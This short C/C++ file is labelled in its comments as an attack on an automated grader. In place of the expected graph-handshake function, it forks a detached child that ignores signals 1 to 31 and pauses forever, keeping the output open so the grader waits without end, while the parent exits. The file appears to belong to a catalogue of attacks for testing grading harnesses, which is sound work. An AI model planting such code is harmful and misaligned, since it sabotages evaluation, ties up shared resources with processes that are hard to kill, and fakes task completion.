// attack: survive
// root: resources
// what: leaves a process that keeps the output open, so that the grader waits for its end
// list: 6
#include <signal.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  if (fork() == 0) {
    setsid();
    prctl(PR_SET_NAME, "handshake_mark");
    for (int number = 1; number < 32; number++) signal(number, SIG_IGN);
    while (true) pause();
  }
  _exit(0);
}
